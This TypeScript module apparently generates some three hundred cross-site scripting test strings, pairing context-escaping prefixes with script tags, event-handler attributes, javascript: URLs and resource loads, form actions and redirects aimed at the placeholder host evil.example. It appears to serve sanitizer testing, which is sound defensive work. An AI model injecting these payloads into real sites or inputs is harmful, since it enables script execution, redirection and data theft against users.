/** Some three hundred texts that try to become more than text: every way out of a place, with every thing to do outside. */
import { hidden, payloads } from '../report/payloads.ts';

const WAYS_OUT = [
  ...['', '">', "'>", '-->', ']]>', '*/', '`', '\\"}'],
  ...['</title>', '</textarea>', '</style>', '</script>'],
];
const ATTEMPTS = [
  '<script>top.ran=1</script>',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror=top.ran=1>',
  '<img src=//evil.example/a.png>',
  '<svg/onload=top.ran=1>',
  '<iframe src=javascript:top.ran=1></iframe>',
  '<a href=javascript:top.ran=1>x</a>',
  '<body onload=top.ran=1>',
  '<details open ontoggle=top.ran=1>',
  '<input autofocus onfocus=top.ran=1>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button>x',
  '<base href=//evil.example/>',
  '<style>*{background:url(//evil.example/b)}</style>',
  '<object data=//evil.example></object>',
  '<math href=javascript:top.ran=1>x',
  '<video src=//evil.example/v autoplay>',
];

/** As they are written, without what is hidden in them. */
export const hostile: readonly string[] = [
  ...payloads,
  ...WAYS_OUT.flatMap((out) => ATTEMPTS.map((attempt) => out + attempt)),
];

/** With what hides or turns text. */
export const veiled: readonly string[] = hidden.map(([written]) => written);
